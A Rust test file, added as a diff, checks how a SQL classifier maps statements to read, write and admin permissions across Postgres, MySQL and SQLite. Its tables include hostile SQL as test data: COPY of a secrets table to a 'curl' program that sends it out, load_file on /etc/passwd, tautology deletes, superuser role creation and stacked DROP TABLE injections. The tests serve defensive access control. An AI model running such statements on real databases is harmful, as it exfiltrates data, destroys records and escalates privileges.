@@ -1,0 +1,441 @@
+//! The SQL classifier, table-driven: each statement kind, each tricky form, each dialect.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing
+)]
+
+use scopegate_engine::bundle::SqlConfig;
+use scopegate_engine::decode::sql::SqlDecoder;
+use scopegate_engine::operation::{Operation, Scope};
+use serde_json::json;
+
+fn decoder(dialect: &str) -> SqlDecoder {
+    let schema = match dialect {
+        "mysql" => json!("rentals"),
+        "generic" => json!("public"),
+        _ => json!(null),
+    };
+    let cfg: SqlConfig = serde_json::from_value(json!({
+        "dialect": dialect, "default_schema": schema, "statement": {"raw": true},
+        "safe_functions": ["public.add_one"]
+    }))
+    .unwrap();
+    let mut errs = Vec::new();
+    let d = SqlDecoder::compile(&cfg, "sql", &mut errs).unwrap();
+    assert!(errs.is_empty(), "{errs:?}");
+    d
+}
+
+fn show(ops: &[Operation]) -> Vec<String> {
+    ops.iter()
+        .map(|o| {
+            let mut s = format!("{} {}", o.action, o.resource);
+            if o.scope == Scope::All {
+                s.push_str(" ALL");
+            }
+            for (k, v) in &o.records {
+                s.push_str(&format!(" {k}={}", v.join("|")));
+            }
+            s
+        })
+        .collect()
+}
+
+fn run(dialect: &str, sql: &str) -> Result<Vec<String>, String> {
+    decoder(dialect)
+        .classify("db", sql, &[])
+        .map(|ops| show(&ops))
+        .map_err(|e| e.0)
+}
+
+/// (sql, expected operations) in postgres.
+const POSTGRES: &[(&str, &[&str])] = &[
+    // Reads: joins, subqueries, CTEs, set operations, lateral, functions.
+    ("SELECT * FROM reservations", &["read public.reservations"]),
+    ("select id from RESERVATIONS where tenant_id = 'acme'", &["read public.reservations tenant_id=acme"]),
+    ("SELECT * FROM reservations r WHERE r.id IN ('r-1', 'r-2') AND r.starts_at > now()", &["read public.reservations id=r-1|r-2"]),
+    ("SELECT * FROM \"Reservations\"", &["read public.Reservations"]),
+    ("SELECT * FROM \"public\".\"reservations\"", &["read public.reservations"]),
+    ("SELECT * FROM PUBLIC.Reservations", &["read public.reservations"]),
+    ("SELECT * FROM private.secrets", &["read private.secrets"]),
+    ("SELECT * FROM reservations r JOIN vehicles v ON v.id = r.vehicle_id", &["read public.reservations", "read public.vehicles"]),
+    ("SELECT (SELECT count(*) FROM payments) AS n", &["read public.payments"]),
+    ("SELECT * FROM reservations WHERE vehicle_id IN (SELECT id FROM vehicles WHERE model = 'Zoe')", &["read public.reservations", "read public.vehicles model=Zoe"]),
+    ("SELECT * FROM reservations WHERE EXISTS (SELECT 1 FROM private.secrets)", &["read public.reservations", "read private.secrets"]),
+    ("SELECT id FROM reservations UNION SELECT id FROM payments", &["read public.reservations", "read public.payments"]),
+    ("SELECT id FROM reservations EXCEPT (SELECT reservation_id FROM payments)", &["read public.reservations", "read public.payments"]),
+    ("SELECT * FROM vehicles v, LATERAL (SELECT * FROM reservations r WHERE r.vehicle_id = v.id) x", &["read public.vehicles", "read public.reservations"]),
+    ("WITH acme AS (SELECT * FROM reservations WHERE tenant_id = 'acme') SELECT * FROM acme", &["read public.reservations tenant_id=acme"]),
+    ("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) SELECT * FROM t", &[]),
+    ("SELECT lower(customer), coalesce(starts_at, now()), count(*) OVER () FROM reservations", &["read public.reservations"]),
+    ("SELECT 1", &[]),
+    ("SELECT * FROM generate_series(1, 3)", &[]),
+    ("SELECT jsonb_build_object('a', 1), date_trunc('day', now())", &[]),
+    ("SELECT public.add_one(1)", &[]),
+    ("VALUES (1), (2)", &[]),
+    // CTE scoping: a later CTE's name inside an earlier body is the real table.
+    ("WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a", &["read public.secrets"]),
+    ("WITH secrets AS (SELECT 1) SELECT * FROM secrets", &[]),
+    ("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", &["read public.secrets"]),
+    ("WITH x AS (SELECT 1) SELECT * FROM (WITH y AS (SELECT * FROM x) SELECT * FROM y) z, x", &[]),
+    ("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) a, x", &["read public.x"]),
+    // Functions: user functions execute, server functions are admin.
+    ("SELECT wipe_payments()", &["execute public.wipe_payments"]),
+    ("SELECT public.lower('A')", &["execute public.lower"]),
+    ("SELECT pg_catalog.lower('A')", &[]),
+    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", &["admin public.pg_terminate_backend", "read public.pg_stat_activity"]),
+    ("SELECT set_config('search_path', 'private', false)", &["admin public.set_config"]),
+    ("SELECT query_to_xml('delete from payments returning 1', true, true, '')", &["admin public.query_to_xml"]),
+    ("SELECT nextval('res_seq')", &["admin public.nextval"]),
+    ("SELECT * FROM dblink('host=x', 'DELETE FROM payments') AS t(a int)", &["admin public.dblink"]),
+    ("SELECT lo_unlink(1)", &["admin public.lo_unlink"]),
+    // Row locks write lock state.
+    ("SELECT * FROM reservations FOR UPDATE", &["update public.reservations", "read public.reservations"]),
+    // INSERT.
+    ("INSERT INTO reservations (id, tenant_id, customer) VALUES ('r-9', 'acme', 'Q')", &["create public.reservations customer=Q id=r-9 tenant_id=acme"]),
+    ("INSERT INTO reservations (id, tenant_id) VALUES ('r-9', 'acme'), ('r-10', now()::text)", &["create public.reservations id=r-10|r-9"]),
+    ("INSERT INTO reservations SELECT * FROM private.secrets", &["create public.reservations", "read private.secrets"]),
+    ("INSERT INTO reservations (id, tenant_id) VALUES ('r-1', 'acme') ON CONFLICT (id) DO UPDATE SET customer = 'x'", &["create public.reservations id=r-1 tenant_id=acme", "update public.reservations id=r-1"]),
+    ("INSERT INTO reservations (id) VALUES ('r-1') ON CONFLICT DO NOTHING", &["create public.reservations id=r-1"]),
+    ("INSERT INTO reservations (id) VALUES ('r-1') RETURNING *", &["create public.reservations id=r-1", "read public.reservations"]),
+    // UPDATE / DELETE: scope and records.
+    ("UPDATE reservations SET customer = 'x'", &["update public.reservations ALL"]),
+    ("UPDATE reservations SET customer = 'x' WHERE tenant_id = 'acme'", &["update public.reservations tenant_id=acme", "read public.reservations"]),
+    ("UPDATE reservations r SET customer = 'x' WHERE r.tenant_id = 'acme' AND r.id IN ('r-1','r-2')", &["update public.reservations id=r-1|r-2 tenant_id=acme", "read public.reservations"]),
+    ("UPDATE reservations SET customer = 'x' FROM vehicles v WHERE tenant_id = 'acme' AND v.id = vehicle_id", &["update public.reservations", "read public.reservations", "read public.vehicles"]),
+    ("DELETE FROM reservations", &["delete public.reservations ALL"]),
+    ("DELETE FROM reservations WHERE true", &["delete public.reservations ALL", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE 1=1", &["delete public.reservations ALL", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE 'a'='a'", &["delete public.reservations ALL", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE id = 'r-1' OR true", &["delete public.reservations ALL", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE id = id", &["delete public.reservations ALL", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE id <> 'nobody'", &["delete public.reservations ALL", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE customer LIKE '%'", &["delete public.reservations ALL", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE id IS NOT NULL", &["delete public.reservations ALL", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE NOT (id = 'r-1')", &["delete public.reservations ALL", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE id = 'r-17'", &["delete public.reservations id=r-17", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE id = 'r-1' OR id = 'r-2'", &["delete public.reservations id=r-1|r-2", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE tenant_id = 'acme' AND tenant_id = 'globex'", &["delete public.reservations tenant_id=", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE starts_at < '2020-01-01'", &["delete public.reservations", "read public.reservations"]),
+    ("DELETE FROM reservations WHERE id = '5'::text", &["delete public.reservations id=5", "read public.reservations"]),
+    ("DELETE FROM reservations r USING vehicles v WHERE v.id = 'v-1' AND r.vehicle_id = v.id", &["delete public.reservations", "read public.reservations", "read public.vehicles"]),
+    ("DELETE FROM reservations WHERE vehicle_id IN (SELECT id FROM vehicles)", &["delete public.reservations", "read public.reservations", "read public.vehicles"]),
+    ("DELETE FROM reservations WHERE id = 'r-1' RETURNING *", &["delete public.reservations id=r-1", "read public.reservations"]),
+    // Writable CTEs, SELECT INTO, CTAS, EXPLAIN.
+    ("WITH d AS (DELETE FROM payments RETURNING *) SELECT * FROM d", &["delete public.payments ALL", "read public.payments"]),
+    ("WITH u AS (UPDATE vehicles SET model = 'x' WHERE id = 'v-1' RETURNING id) SELECT 1", &["update public.vehicles id=v-1", "read public.vehicles"]),
+    ("SELECT * INTO stolen FROM private.secrets", &["alter public.stolen", "read private.secrets"]),
+    ("CREATE TABLE stolen AS SELECT * FROM private.secrets", &["alter public.stolen", "read private.secrets"]),
+    ("EXPLAIN SELECT * FROM payments", &["read public.payments"]),
+    ("EXPLAIN DELETE FROM payments", &["read public.payments"]),
+    ("EXPLAIN ANALYZE DELETE FROM payments", &["delete public.payments ALL"]),
+    ("EXPLAIN (ANALYZE) DELETE FROM payments", &["delete public.payments ALL"]),
+    ("EXPLAIN (ANALYZE true, BUFFERS) UPDATE vehicles SET model = 'x'", &["update public.vehicles ALL"]),
+    // MERGE, TRUNCATE.
+    ("MERGE INTO vehicles v USING (SELECT 'v-1' AS id) s ON v.id = s.id WHEN MATCHED THEN DELETE", &["delete public.vehicles ALL", "read public.vehicles"]),
+    ("MERGE INTO vehicles v USING staging s ON v.id = s.id WHEN MATCHED THEN UPDATE SET model = s.model WHEN NOT MATCHED THEN INSERT (id, model) VALUES (s.id, s.model)", &["update public.vehicles ALL", "create public.vehicles", "read public.vehicles", "read public.staging"]),
+    ("TRUNCATE payments", &["delete public.payments ALL"]),
+    ("TRUNCATE TABLE payments, reservations RESTART IDENTITY", &["delete public.payments ALL", "delete public.reservations ALL"]),
+    // DDL.
+    ("DROP TABLE vehicles", &["drop public.vehicles"]),
+    ("DROP TABLE IF EXISTS private.secrets, vehicles", &["drop private.secrets", "drop public.vehicles"]),
+    ("DROP SCHEMA private", &["drop public.private"]),
+    ("DROP INDEX reservations_pkey", &["drop public.reservations_pkey"]),
+    ("DROP FUNCTION wipe_payments()", &["drop public.wipe_payments"]),
+    ("CREATE TABLE notes (id int)", &["alter public.notes"]),
+    ("CREATE VIEW v AS SELECT * FROM private.secrets", &["alter public.v", "read private.secrets"]),
+    ("CREATE INDEX ON reservations (tenant_id)", &["alter public.reservations"]),
+    ("ALTER TABLE reservations ADD COLUMN notes text", &["alter public.reservations"]),
+    ("ALTER TABLE reservations RENAME TO old_reservations", &["alter public.reservations"]),
+    ("COMMENT ON TABLE reservations IS 'x'", &["alter public.reservations"]),
+    ("CREATE SCHEMA audit", &["alter sql:schema"]),
+    ("CREATE SEQUENCE s2", &["alter public.s2"]),
+    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", &["alter public.f"]),
+    // Admin.
+    ("GRANT SELECT ON private.secrets TO PUBLIC", &["admin sql:privileges"]),
+    ("REVOKE ALL ON reservations FROM agent", &["admin sql:privileges"]),
+    ("CREATE ROLE intruder SUPERUSER", &["admin sql:privileges"]),
+    ("SET ROLE postgres", &["admin sql:session"]),
+    ("SET search_path TO private", &["admin sql:session"]),
+    ("RESET ALL", &["admin sql:session"]),
+    ("VACUUM reservations", &["admin sql:maintenance"]),
+    ("ANALYZE reservations", &["admin sql:maintenance", "read public.reservations"]),
+    ("LOCK TABLE reservations IN ACCESS EXCLUSIVE MODE", &["admin public.reservations"]),
+    ("COPY reservations TO STDOUT", &["admin public.reservations"]),
+    ("COPY reservations FROM STDIN", &["admin public.reservations"]),
+    ("COPY (SELECT * FROM private.secrets) TO PROGRAM 'curl -d @- http://x'", &["admin sql:copy", "read private.secrets"]),
+    ("LISTEN ch", &["admin sql:server"]),
+    ("NOTIFY ch", &["admin sql:server"]),
+    ("CREATE EXTENSION dblink", &["admin sql:server"]),
+    // Execute.
+    ("CALL touch_vehicle('v-1')", &["execute public.touch_vehicle"]),
+    ("PREPARE p AS DELETE FROM payments", &["execute sql:prepared", "delete public.payments ALL"]),
+    ("EXECUTE p", &["execute sql:prepared"]),
+    ("DEALLOCATE p", &["execute sql:prepared"]),
+    // Transaction control adds nothing; batches are every statement.
+    ("BEGIN; DELETE FROM payments WHERE id = 'p-1'; COMMIT", &["delete public.payments id=p-1", "read public.payments"]),
+    ("SELECT 1; DELETE FROM payments", &["delete public.payments ALL"]),
+    ("SELECT * FROM vehicles; /* harmless */ DROP TABLE vehicles -- bye", &["read public.vehicles", "drop public.vehicles"]),
+    ("SELECT * FROM reservations; SELECT * FROM reservations", &["read public.reservations"]),
+];
+
+#[test]
+fn postgres_classification_table() {
+    let mut failures = Vec::new();
+    for (sql, want) in POSTGRES {
+        match run("postgres", sql) {
+            Ok(got) if got == *want => {}
+            other => failures.push(format!("{sql}\n   want {want:?}\n   got  {other:?}")),
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} mismatches:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+}
+
+/// Refused, never guessed: (sql, reason fragment).
+const DENIED: &[(&str, &str)] = &[
+    ("DO $$ BEGIN DELETE FROM payments; END $$", "does not parse"),
+    ("SELEC * FROM reservations", "does not parse"),
+    ("SELECT * FROM reservations WHERE", "does not parse"),
+    ("", "no SQL statement"),
+    ("  ;  ", "no SQL statement"),
+    ("TABLE payments", "does not parse"),
+    ("SELECT 1 UNION TABLE payments", "`TABLE name`"),
+    ("TRUNCATE reservations CASCADE", "CASCADE"),
+    ("DROP TABLE vehicles CASCADE", "CASCADE"),
+    (
+        "SET search_path TO private; SELECT * FROM secrets",
+        "session settings",
+    ),
+    (
+        "SELECT * FROM reservations; RESET search_path",
+        "session settings",
+    ),
+    ("SELECT * FROM \"a.b\"", "cannot be named safely"),
+    ("SELECT * FROM \"res*\"", "cannot be named safely"),
+    ("SELECT * FROM a.b.c.d", "too many parts"),
+    (
+        "UPDATE reservations r JOIN vehicles v ON v.id = r.vehicle_id SET model = 'x'",
+        "ambiguous",
+    ),
+    ("CLUSTER reservations", "does not parse"),
+];
+
+#[test]
+fn refusals() {
+    for (sql, why) in DENIED {
+        match run("postgres", sql) {
+            Err(e) => assert!(e.contains(why), "{sql}: `{e}` lacks `{why}`"),
+            Ok(ops) => panic!("{sql}: allowed to decode as {ops:?}"),
+        }
+    }
+}
+
+#[test]
+fn deep_input_is_refused_not_a_crash() {
+    // Unoptimised test builds use far bigger stack frames than the release module
+    // (whose stack is sized in filter/build.rs): give this thread room.
+    let t = std::thread::Builder::new().stack_size(256 << 20).spawn(|| {
+        let deep = format!("SELECT {}1{}", "(".repeat(500), ")".repeat(500));
+        assert!(run("postgres", &deep)
+            .unwrap_err()
+            .contains("recursion limit"));
+        let deep_sub = format!(
+            "SELECT * FROM {}reservations{}",
+            "(SELECT * FROM ".repeat(200),
+            ") x".repeat(200)
+        );
+        assert!(run("postgres", &deep_sub)
+            .unwrap_err()
+            .contains("recursion limit"));
+        let chain = format!("DELETE FROM t WHERE {}", vec!["id = 1"; 600].join(" OR "));
+        assert!(run("postgres", &chain)
+            .unwrap_err()
+            .contains("operators, over the limit of 1000"));
+        let casts = format!("SELECT 1{}", "::int".repeat(1200));
+        assert!(run("postgres", &casts)
+            .unwrap_err()
+            .contains("over the limit"));
+        let unions = vec!["SELECT 1"; 1100].join(" UNION ");
+        assert!(run("postgres", &unions)
+            .unwrap_err()
+            .contains("over the limit"));
+        // Just under the limits: decoded.
+        let ok = format!("DELETE FROM t WHERE {}", vec!["id = 1"; 499].join(" OR "));
+        assert_eq!(
+            run("postgres", &ok).unwrap(),
+            ["delete public.t id=1", "read public.t"]
+        );
+    });
+    t.unwrap().join().unwrap();
+}
+
+#[test]
+fn limits() {
+    let d = {
+        let cfg: SqlConfig = serde_json::from_value(json!({
+            "dialect": "postgres", "statement": {"raw": true},
+            "max_statement_bytes": 64, "max_statements": 2
+        }))
+        .unwrap();
+        SqlDecoder::compile(&cfg, "sql", &mut Vec::new()).unwrap()
+    };
+    let e = d
+        .classify("db", &format!("SELECT '{}'", "x".repeat(100)), &[])
+        .unwrap_err();
+    assert!(e.0.contains("max_statement_bytes of 64"), "{e}");
+    let e = d
+        .classify("db", "SELECT 1; SELECT 2; SELECT 3", &[])
+        .unwrap_err();
+    assert!(e.0.contains("max_statements of 2"), "{e}");
+}
+
+/// Expected operations, or a reason fragment for a refusal.
+type Want = Result<&'static [&'static str], &'static str>;
+
+#[test]
+fn other_dialects() {
+    let cases: &[(&str, &str, Want)] = &[
+        (
+            "mysql",
+            "SELECT * FROM `reservations`",
+            Ok(&["read rentals.reservations"]),
+        ),
+        (
+            "mysql",
+            "SELECT * FROM Reservations",
+            Ok(&["read rentals.Reservations"]),
+        ),
+        (
+            "mysql",
+            "DELETE FROM reservations LIMIT 1",
+            Ok(&["delete rentals.reservations ALL"]),
+        ),
+        (
+            "mysql",
+            "REPLACE INTO vehicles (id, model) VALUES ('v-1', 'x')",
+            Ok(&[
+                "delete rentals.vehicles",
+                "create rentals.vehicles id=v-1 model=x",
+            ]),
+        ),
+        (
+            "mysql",
+            "INSERT INTO vehicles (id) VALUES ('v-1') ON DUPLICATE KEY UPDATE model = 'x'",
+            Ok(&["create rentals.vehicles id=v-1", "update rentals.vehicles"]),
+        ),
+        (
+            "mysql",
+            "SELECT load_file('/etc/passwd')",
+            Ok(&["admin rentals.load_file"]),
+        ),
+        (
+            "mysql",
+            "SELECT * FROM other_db.payments",
+            Ok(&["read other_db.payments"]),
+        ),
+        ("mysql", "USE other_db", Ok(&["admin sql:session"])),
+        (
+            "mysql",
+            "USE other_db; SELECT * FROM payments",
+            Err("session settings"),
+        ),
+        (
+            "sqlite",
+            "SELECT * FROM \"Reservations\"",
+            Ok(&["read main.reservations"]),
+        ),
+        (
+            "sqlite",
+            "INSERT OR REPLACE INTO vehicles (id) VALUES ('v-1')",
+            Ok(&["delete main.vehicles", "create main.vehicles id=v-1"]),
+        ),
+        (
+            "sqlite",
+            "SELECT load_extension('x')",
+            Ok(&["admin main.load_extension"]),
+        ),
+        (
+            "sqlite",
+            "PRAGMA writable_schema = 1",
+            Ok(&["admin sql:server"]),
+        ),
+        (
+            "sqlite",
+            "ATTACH DATABASE '/tmp/x.db' AS x",
+            Ok(&["admin sql:server"]),
+        ),
+        (
+            "generic",
+            "SELECT * FROM Reservations r WHERE r.ID = 7",
+            Ok(&["read public.reservations id=7"]),
+        ),
+        (
+            "generic",
+            "DELETE FROM reservations WHERE id = -5",
+            Ok(&[
+                "delete public.reservations id=-5",
+                "read public.reservations",
+            ]),
+        ),
+    ];
+    for (dialect, sql, want) in cases {
+        let got = run(dialect, sql);
+        match (want, &got) {
+            (Ok(w), Ok(g)) => assert_eq!(g, w, "{dialect}: {sql}"),
+            (Err(why), Err(e)) => assert!(e.contains(why), "{dialect}: {sql}: {e}"),
+            _ => panic!("{dialect}: {sql}: want {want:?}, got {got:?}"),
+        }
+    }
+}
+
+#[test]
+fn parameters_prove_records() {
+    let d = decoder("postgres");
+    let ops = d
+        .classify(
+            "db",
+            "DELETE FROM reservations WHERE tenant_id = $1 AND id = $2",
+            &[json!("acme"), json!(17)],
+        )
+        .unwrap();
+    assert_eq!(
+        show(&ops),
+        [
+            "delete public.reservations id=17 tenant_id=acme",
+            "read public.reservations"
+        ]
+    );
+    let ops = d
+        .classify(
+            "db",
+            "DELETE FROM reservations WHERE tenant_id = $3",
+            &[json!("acme")],
+        )
+        .unwrap();
+    assert_eq!(
+        show(&ops),
+        ["delete public.reservations", "read public.reservations"]
+    );
+}
+
+#[test]
+fn detail_is_the_normalised_statement_bounded() {
+    let d = decoder("postgres");
+    let ops = d
+        .classify("db", "delete   from reservations where id='r-1'", &[])
+        .unwrap();
+    assert_eq!(ops[0].detail, "DELETE FROM reservations WHERE id = 'r-1'");
+    let long = format!(
+        "SELECT * FROM reservations WHERE customer IN ({})",
+        vec!["'x'"; 200].join(",")
+    );
+    let ops = d.classify("db", &long, &[]).unwrap();
+    assert!(ops[0].detail.chars().count() <= 241 && ops[0].detail.ends_with('…'));
+}
